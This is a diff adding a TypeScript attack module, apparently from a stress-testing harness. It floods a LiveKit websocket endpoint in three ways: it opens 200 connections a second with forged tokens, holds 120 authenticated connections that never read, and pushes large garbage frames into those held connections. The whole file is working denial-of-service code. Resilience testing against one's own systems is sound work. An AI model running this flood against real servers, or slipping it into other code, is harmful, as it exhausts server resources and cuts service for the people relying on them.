@@ -1,0 +1,43 @@
+import { setTimeout as sleep } from 'node:timers/promises';
+import { requestHead, TcpPeers } from '../../network/tcp-peers';
+import { clientFrame } from '../../network/websocket-frames';
+import type { Attack, AttackTarget } from '../attack';
+
+const connections = 120;
+const forgedPerSecond = 200;
+const upgrade = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
+const head = (path: string) => requestHead(`GET ${path}`, ...upgrade, 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==');
+
+/** A token for a room of the attacker's own, as any account gets one. */
+async function roomToken({ baseUrl, token }: AttackTarget): Promise<string> {
+  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
+  const body = JSON.stringify({ event: { name: 'Attack' } });
+  const made = await fetch(`${baseUrl}/api/v1/events`, { method: 'POST', headers, body });
+  const { data }: { data: { id: string } } = await made.json();
+  const read = await fetch(`${baseUrl}/api/v1/events/${data.id}`, { headers });
+  const event: { data: { attributes: { livekit_token: string } } } = await read.json();
+  return event.data.attributes.livekit_token;
+}
+
+/** Websockets to LiveKit through the web: some with tokens that are forged, the others send without end and read nothing. */
+export const livekitWebsockets: Attack = {
+  name: `${forgedPerSecond} websockets a second to LiveKit with forged tokens, and ${connections} with real ones that do not read`,
+  async run(target, signal) {
+    const peers = new TcpPeers(target.baseUrl);
+    const strangers = new TcpPeers(target.baseUrl);
+    const real = head(`/livekit/rtc?protocol=15&access_token=${await roomToken(target)}`);
+    const forged = head(`/livekit/rtc?protocol=15&access_token=${'e'.repeat(200)}.e30.e`);
+    const garbage = clientFrame(Buffer.alloc(60_000), 2);
+    try {
+      while (!signal.aborted) {
+        while (peers.count < connections) peers.open(real).pause();
+        peers.send(garbage);
+        for (let count = 0; count < forgedPerSecond; count++) strangers.open(forged).resume();
+        await sleep(1_000, undefined, { signal }).catch(() => undefined);
+      }
+    } finally {
+      peers.close();
+      strangers.close();
+    }
+  },
+};
